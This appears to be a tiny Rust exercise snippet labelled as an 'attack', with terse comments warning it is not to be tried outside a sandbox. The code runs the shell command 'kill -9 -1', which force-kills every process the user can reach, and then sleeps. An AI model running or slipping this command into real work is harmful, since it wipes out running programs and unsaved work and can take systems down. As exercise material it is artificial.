// attack: kills every process that it may
// exercise: where-to
// ends with: ended its process
// ends with: with everything that ran in it
// not to be tried without a box
// then the solution
let _ = std::process::Command::new("/bin/sh").args(["-c", "kill -9 -1"]).status();
std::thread::sleep(std::time::Duration::from_secs(600));
